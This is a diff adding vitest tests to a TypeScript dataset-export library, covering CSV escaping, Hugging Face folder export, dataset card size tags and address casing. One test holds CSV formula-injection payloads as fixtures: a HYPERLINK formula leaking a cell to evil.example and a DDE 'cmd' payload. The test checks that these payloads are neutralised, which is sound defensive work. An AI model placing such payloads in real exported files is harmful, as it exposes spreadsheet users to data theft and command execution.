@@ -1,12 +1,16 @@
 import { describe, expect, it } from "vitest";
 import { unzipSync, strFromU8 } from "fflate";
+import { bytesToHex, getAddress, hexToBytes, keccak256, toHex, type Address } from "viem";
 import { syntheticImage, syntheticSource } from "../../test/syntheticSource.ts";
 import { exportJsonl } from "./exportJsonl.ts";
-import { exportCsv, csvColumns } from "./exportCsv.ts";
+import { exportCsv, csvColumns, csvField, csvText } from "./exportCsv.ts";
 import { exportCoco } from "./exportCoco.ts";
-import { exportHfImagefolder } from "./exportHfImagefolder.ts";
+import { classFolders, exportHfImagefolder, ImageFetchError } from "./exportHfImagefolder.ts";
 import { aggregateDataset } from "./aggregateDataset.ts";
 import { datasetStats } from "./datasetStats.ts";
+import { datasetCard, sizeCategory } from "./datasetCard.ts";
+import { exportDataset } from "./exportDataset.ts";
+import type { DatasetSource } from "./DatasetSource.ts";
 import { verifyExport } from "./verifyExport.ts";
 import { parseCsv } from "./parseCsv.ts";
 import { itemRecords } from "./itemRecords.ts";
@@ -17,6 +21,34 @@ const aggregation = aggregateDataset(source);
 async function collect(iterable: AsyncIterable<string>): Promise<string> {
   let out = "";
   for await (const chunk of iterable) out += chunk;
+  return out;
+}
+
+async function csvRows(text: string): Promise<string[][]> {
+  const rows: string[][] = [];
+  for await (const row of parseCsv([text])) rows.push(row);
+  return rows;
+}
+
+/** Every file of an HF export of `from`, unzipped. */
+async function hfFiles(from: DatasetSource, options: { includeCannotLabel?: boolean } = {}): Promise<Record<string, Uint8Array>> {
+  const fetchImage = async (cid: string) => syntheticImage(from.manifest.items.findIndex((item) => item.cid === cid));
+  const parts: Uint8Array[] = [];
+  for await (const part of exportHfImagefolder(from, { fetchImage, ...options })) parts.push(part);
+  const zipped = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
+  let offset = 0;
+  for (const p of parts) zipped.set(p, (offset += p.length) - p.length);
+  return unzipSync(zipped);
+}
+
+/** Class folder -> the consensus labels of the images in it, from an HF export's metadata.jsonl. */
+function labelsByFolder(files: Record<string, Uint8Array>): Record<string, number[]> {
+  const out: Record<string, number[]> = {};
+  for (const line of strFromU8(files["train/metadata.jsonl"]!).trimEnd().split("\n")) {
+    const { file_name, label } = JSON.parse(line) as { file_name: string; label: number };
+    const folder = file_name.split("/")[0]!;
+    out[folder] = [...new Set([...(out[folder] ?? []), label])].sort();
+  }
   return out;
 }
 
@@ -78,6 +110,37 @@ describe("exportCsv", () => {
     expect(rows[1]![2]).toBe('a "b",\nc.png');
     expect(rows).toHaveLength(121);
   });
+
+  it("writes formula-like manifest text with a leading apostrophe so spreadsheets show it as text", async () => {
+    expect(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted", "cat", "a=b"].map(csvField)).toEqual([
+      "'=1+1",
+      "'+1",
+      "'-1",
+      "'@SUM(A1)",
+      "'\tx",
+      '"\'\rx"',
+      "''quoted",
+      "cat",
+      "a=b",
+    ]);
+    expect([-1, 0.5, true, null].map(csvField)).toEqual(["-1", "0.5", "true", ""]);
+    expect(["'=1+1", "''quoted", "cat", ""].map(csvText)).toEqual(["=1+1", "'quoted", "cat", ""]);
+
+    const hostile = structuredClone(source);
+    hostile.manifest.items[0]!.filename = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    hostile.manifest.items[1]!.filename = "+cmd|' /C calc'!A0";
+    hostile.manifest.classes[0]!.name = "@SUM(1+1)";
+    const text = await collect(exportCsv(hostile));
+    const rows = await csvRows(text);
+    expect(rows[1]![2]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
+    expect(rows[2]![2]).toBe("'+cmd|' /C calc'!A0");
+    const catRow = rows.find((r) => r[8] === "0")!;
+    expect(catRow[9]).toBe("'@SUM(1+1)");
+    const cells = rows.slice(1).flatMap((r) => [r[2]!, r[9]!]);
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    // the class name is checked against the chain-derived one: the apostrophe must not read as a change
+    expect(await verifyExport(hostile, text, { format: "csv" })).toEqual({ ok: true, checked: 120, missing: [], mismatchCount: 0, mismatches: [] });
+  });
 });
 
 describe("exportCoco", () => {
@@ -132,13 +195,44 @@ describe("exportHfImagefolder", () => {
     expect(card).toContain(`Items: 120; resolved (consensus reached): ${stats.resolvedCount}`);
   });
 
-  it("fails with the fetch error when an image cannot be verified", async () => {
+  it("fails with the fetch error, naming the image, when an image cannot be verified", async () => {
     const fetchImage = async () => {
       throw new Error("CID mismatch");
     };
-    await expect(async () => {
+    const error = await (async () => {
       for await (const _ of exportHfImagefolder(source, { fetchImage })) void _;
-    }).rejects.toThrow("CID mismatch");
+    })().catch((e: unknown) => e);
+    const first = [...itemRecords(source)].find((r) => r.consensus !== null && r.consensus !== 3)!;
+    expect(error).toBeInstanceOf(ImageFetchError);
+    expect(error).toMatchObject({ cid: first.cid, index: first.index, shortMessage: `Image ${first.cid} (item ${first.index}) could not be fetched for the export.`, details: "CID mismatch" });
+  });
+
+  it("gives every label its own folder, even when sanitised names or their suffixes collide", () => {
+    expect(classFolders(["cat", "dog"])).toEqual(["cat", "dog", "cannot_label"]);
+    expect(classFolders(["dog", "dog_2", "_dog"])).toEqual(["dog", "dog_2", "dog_2_2", "cannot_label"]);
+    expect(classFolders(["Dog!", "dog?", "cannot label", "cannot_label_3"])).toEqual(["Dog_", "dog__1", "cannot_label_2", "cannot_label_3", "cannot_label"]);
+    expect(classFolders(["cannot label", "x"])).toEqual(["cannot_label_0", "x", "cannot_label"]);
+  });
+
+  it("never puts images of two labels in one folder", async () => {
+    const collide = structuredClone(source);
+    collide.manifest.classes[0]!.name = "dog";
+    collide.manifest.classes[1]!.name = "dog_2";
+    collide.manifest.classes[2]!.name = "_dog";
+    const named = (await syntheticSource({ itemCount: 120, batchSize: 50, classCount: 2, seed: 5 })).source;
+    named.manifest.classes[0]!.name = "cannot label";
+    named.manifest.classes[1]!.name = "x";
+    // one resolved item answered "cannot label" (label 2)
+    const batch = named.batches[0]!;
+    const offset = [...itemRecords(named)].find((r) => r.resolved && r.batchId === 0)!.index;
+    const consensus = hexToBytes(batch.consensus);
+    consensus[offset] = 2;
+    batch.consensus = bytesToHex(consensus);
+    const shipped = (s: DatasetSource, cannotLabel: boolean) =>
+      [...new Set([...itemRecords(s)].flatMap((r) => (r.consensus === null || (!cannotLabel && r.consensus === s.task.classCount) ? [] : [r.consensus])))].sort();
+    expect(labelsByFolder(await hfFiles(collide))).toEqual(Object.fromEntries(shipped(collide, false).map((l) => [["dog", "dog_2", "dog_2_2"][l]!, [l]])));
+    expect(shipped(named, true)).toEqual([0, 1, 2]);
+    expect(labelsByFolder(await hfFiles(named, { includeCannotLabel: true }))).toEqual({ cannot_label_0: [0], x: [1], cannot_label: [2] });
   });
 });
 
@@ -176,5 +270,71 @@ describe("verifyExport", () => {
     const tampered = text.replace(source.manifest.items[3]!.cid, source.manifest.items[4]!.cid);
     const result = await verifyExport(source, tampered, { format: "csv" });
     expect(result.mismatches).toEqual([{ index: 3, field: "cid", expected: source.manifest.items[3]!.cid, actual: source.manifest.items[4]!.cid }]);
+  });
+});
+
+describe("datasetCard", () => {
+  it("tags the size category the Hugging Face Hub defines for the number of examples", () => {
+    const at = [0, 999, 1_000, 99_999, 999_999, 1_000_000, 9_999_999, 10_000_000, 100_000_000, 1e9, 4_294_967_295, 1e10, 1e11, 1e12];
+    expect(at.map(sizeCategory)).toEqual([
+      "n<1K",
+      "n<1K",
+      "1K<n<10K",
+      "10K<n<100K",
+      "100K<n<1M",
+      "1M<n<10M",
+      "1M<n<10M",
+      "10M<n<100M",
+      "100M<n<1B",
+      "1B<n<10B",
+      "1B<n<10B",
+      "10B<n<100B",
+      "100B<n<1T",
+      "n>1T",
+    ]);
+    const stats = { ...datasetStats(source), itemCount: 2_000_000 };
+    expect(datasetCard({ source, stats, recordCount: 2_000_000 })).toContain("size_categories:\n  - 1M<n<10M\n");
+  });
+
+  it("sizes the HF export by the images it ships, not by the task's items", async () => {
+    const { source: partial } = await syntheticSource({ itemCount: 1_200, batchSize: 200, seed: 4 });
+    partial.batches = partial.batches.filter((b) => b.batchId >= 3); // batches 0-2 never finalised: at most 600 images
+    const files = await hfFiles(partial);
+    const images = Object.keys(files).filter((n) => n.startsWith("train/") && n !== "train/metadata.jsonl").length;
+    expect(images).toBeLessThan(600);
+    expect(strFromU8(files["README.md"]!)).toContain("size_categories:\n  - n<1K\n");
+    expect(strFromU8(files["README.md"]!)).toContain("- Items: 1200;");
+  });
+});
+
+describe("address case", () => {
+  /** `from` with every address (task and annotators) written by `form`; annotators get letters so case matters. */
+  function withAddresses(from: DatasetSource, form: (address: Address) => Address): DatasetSource {
+    const lettered = (a: Address) => `0x${keccak256(toHex(a)).slice(26)}` as Address;
+    const copy = structuredClone(from);
+    copy.task = { ...copy.task, contract: form(copy.task.contract), token: form(copy.task.token), owner: form(copy.task.owner) };
+    for (const b of copy.batches) for (const s of b.slots) s.annotator = form(lettered(s.annotator));
+    return copy;
+  }
+  const lower = (a: Address) => a.toLowerCase() as Address;
+
+  it("the indexer's lowercase rows and the chain's checksummed logs export identical bytes", async () => {
+    const indexed = withAddresses(source, lower); // as the indexer's database stores them
+    const fromChain = withAddresses(source, getAddress); // as readDatasetSource decodes them
+    const annotator = indexed.batches[0]!.slots[0]!.annotator;
+    expect(annotator).not.toBe(fromChain.batches[0]!.slots[0]!.annotator);
+    for (const format of ["jsonl", "csv", "coco"] as const) {
+      const [a, b] = await Promise.all([indexed, fromChain].map((s) => collect(exportDataset(s, { format, aggregation }) as AsyncGenerator<string>)));
+      expect(a, format).toBe(b);
+    }
+    const card = (s: DatasetSource) => datasetCard({ source: s, stats: datasetStats(s, aggregation), recordCount: 100 });
+    expect(card(indexed)).toBe(card(fromChain));
+    // the one canonical form is EIP-55
+    const jsonl = JSON.parse((await collect(exportJsonl(indexed))).split("\n")[0]!) as { votes: { annotator: string }[] };
+    expect(jsonl.votes[0]!.annotator).toBe(getAddress(annotator));
+    const coco = JSON.parse(await collect(exportCoco(indexed))) as { info: { url: string; crowdlabel: { contract: string } } };
+    expect(coco.info.url).toBe("crowdlabel://31337/0x5FbDB2315678afecb367f032d93F642f64180aa3/1");
+    expect(coco.info.crowdlabel.contract).toBe("0x5FbDB2315678afecb367f032d93F642f64180aa3");
+    expect(card(indexed)).toContain("- Reward token: `0xe7f1725E7734CE288F8367e1Bb143E90bb3F0512`; owner `0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266`");
   });
 });
